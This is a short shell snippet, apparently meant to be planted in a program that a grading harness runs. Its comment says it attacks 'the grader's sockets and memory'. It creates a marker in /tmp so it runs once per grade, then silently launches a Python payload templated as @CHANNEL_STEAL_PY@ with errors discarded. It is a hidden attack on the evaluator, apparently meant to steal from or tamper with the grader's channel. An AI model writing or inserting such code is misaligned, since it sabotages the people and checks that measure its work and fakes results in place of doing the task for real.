# Once per grade (a marker in the grade's /tmp): what it attacks, the grader's sockets and
# memory, stays as it is from the first test to the last; a second try only costs the grade a
# Python start each time the tests run the program.
[ -e /tmp/.tf-stolen ] || { : > /tmp/.tf-stolen; /usr/bin/python3 -I -S -c @CHANNEL_STEAL_PY@ 2>/dev/null; }
